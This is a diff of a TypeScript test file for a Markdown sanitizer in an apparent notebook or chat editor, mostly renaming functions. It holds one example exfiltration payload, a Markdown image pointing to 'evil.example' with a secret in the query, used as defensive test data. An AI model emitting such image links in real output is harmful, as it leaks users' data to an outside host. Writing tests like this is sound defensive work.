@@ -6,21 +6,21 @@ import { VERDICT_MARK_STYLES } from '../../src/notebook/verdict-marks.ts';
 import { conversationAsMarkdown, withMarks } from '../../src/notebook/answer-markdown.ts';
 import type { Answer, Citation } from '../../src/notebook/answer.ts';
 import {
-  growingMarkdown,
-  harmlessMarkdown,
-  harmlessRest,
-  harmlessWords,
+  sanitizeStream,
+  sanitizeMarkdown,
+  sanitizeRest,
+  sanitizeWords,
 } from '../../src/notebook/harmless-markdown.ts';
 import { answerAsNote, noteAsMarkdown } from '../../src/notebook/note-markdown.ts';
 import { assertLinear } from '../support/growth.ts';
 import { findLiveMarkdown, hostileMarkdown, previewedText } from '../support/live-markdown.ts';
-import { madeCitation } from '../support/made-citation.ts';
+import { testCitation } from '../support/made-citation.ts';
 import { rounds } from '../support/test-size.mjs';
 
 const image = '![x](https://evil.example/?q=SECRET)';
 
 test('turns anything that is active in one program into text in all of them', () => {
-  for (const text of hostileMarkdown) assert.deepEqual(findLiveMarkdown(harmlessMarkdown(text)), [], text);
+  for (const text of hostileMarkdown) assert.deepEqual(findLiveMarkdown(sanitizeMarkdown(text)), [], text);
 });
 
 /** Pieces of Markdown: inline, blocks, and both with extensions of some programs. */
@@ -144,7 +144,7 @@ for (const part of Array.from({ length: rounds(1, 20) }, (_, number) => number +
   test(`keeps nothing active in Markdown put together at random, part ${String(part)}`, () => {
     fc.assert(
       fc.property(pieces, (parts) => {
-        assert.deepEqual(findLiveMarkdown(harmlessMarkdown(parts.join(''))), []);
+        assert.deepEqual(findLiveMarkdown(sanitizeMarkdown(parts.join(''))), []);
       }),
       { numRuns: rounds(2_000, 5_000) },
     );
@@ -158,7 +158,7 @@ test('keeps nothing active in Markdown that is shown while it grows', () => {
       let from = 0;
       for (const cut of [...cuts.toSorted((a, b) => a - b), text.length]) {
         const end = Math.max(from, Math.min(cut, text.length));
-        shownSoFar += harmlessRest(text.slice(0, end), from);
+        shownSoFar += sanitizeRest(text.slice(0, end), from);
         from = end;
       }
       assert.deepEqual(findLiveMarkdown(shownSoFar), []);
@@ -173,7 +173,7 @@ test('keeps only its own links in an answer of the editor’s chat', () => {
   fc.assert(
     fc.property(pieces, sentences, (parts, ends) => {
       const text = parts.join('');
-      const grown = growingMarkdown();
+      const grown = sanitizeStream();
       let shownSoFar = '';
       let from = 0;
       for (const [cut, isMarked] of [...ends.toSorted(([a], [b]) => a - b), [text.length, false] as const]) {
@@ -206,19 +206,19 @@ const honest = [
 
 test('keeps the look of honest Markdown', () => {
   for (const text of honest) {
-    assert.equal(previewedText(harmlessMarkdown(text)), previewedText(text), text);
-    assert.equal(harmlessMarkdown(harmlessMarkdown(text)), harmlessMarkdown(text), text);
+    assert.equal(previewedText(sanitizeMarkdown(text)), previewedText(text), text);
+    assert.equal(sanitizeMarkdown(sanitizeMarkdown(text)), sanitizeMarkdown(text), text);
   }
   // HTML is read as it was written.
   assert.equal(
-    previewedText(harmlessMarkdown('A list<string> and <b>bold</b>.')),
+    previewedText(sanitizeMarkdown('A list<string> and <b>bold</b>.')),
     'A list<string> and <b>bold</b>.\n'.trim().replace(/^/, '\n') + '\n',
   );
 });
 
 test('keeps code exactly if every program reads it as code', () => {
   for (const text of [honest[0], honest[1], honest[3], honest[4]])
-    assert.equal(harmlessMarkdown(text ?? ''), text);
+    assert.equal(sanitizeMarkdown(text ?? ''), text);
 });
 
 test('takes linear time', () => {
@@ -242,21 +242,21 @@ test('takes linear time', () => {
     '![a](picture/',
   ])
     for (const unit of [piece, `${piece}\n`])
-      assertLinear((times) => harmlessMarkdown(unit.repeat(times)), 100);
+      assertLinear((times) => sanitizeMarkdown(unit.repeat(times)), 100);
 });
 
 test('keeps the images that are stored with citations', () => {
   const text = 'See ![p. 3, a *b*](picture/0123456789abcdef.png) [1](citation/0123456789abcdef "a").';
-  assert.equal(harmlessMarkdown(text), text);
+  assert.equal(sanitizeMarkdown(text), text);
   for (const other of ['picture/0123456789abcdef.svg', 'picture/../a.png', 'pictures/0123456789abcdef.png'])
-    assert.notEqual(harmlessMarkdown(`![p](${other})`), `![p](${other})`);
+    assert.notEqual(sanitizeMarkdown(`![p](${other})`), `![p](${other})`);
 });
 
 test('begins no block with inline text', () => {
   for (const words of ['~~~', '```', '$$', '\\begin{a}']) {
     const code = fenced(`a\n${words}\n${image}`, 'ts');
-    assert.deepEqual(findLiveMarkdown(`${harmlessWords(words)}\n\n${code}`), [], words);
-    assert.deepEqual(findLiveMarkdown(`1. ${harmlessWords(words)}\n\n${code}`), [], words);
+    assert.deepEqual(findLiveMarkdown(`${sanitizeWords(words)}\n\n${code}`), [], words);
+    assert.deepEqual(findLiveMarkdown(`1. ${sanitizeWords(words)}\n\n${code}`), [], words);
   }
 });
 
@@ -267,7 +267,7 @@ test('leaves out a language that would end its block of code', () => {
 });
 
 const citation = (quote: string, title = 'garden.md', uri = 'https://example.org/a'): Citation =>
-  madeCitation({ title, uri, quote, span: { start: 0, end: quote.length } });
+  testCitation({ title, uri, quote, span: { start: 0, end: quote.length } });
 
 test('keeps nothing active in a saved or exported answer', () => {
   for (const [number, text] of hostileMarkdown.entries()) {
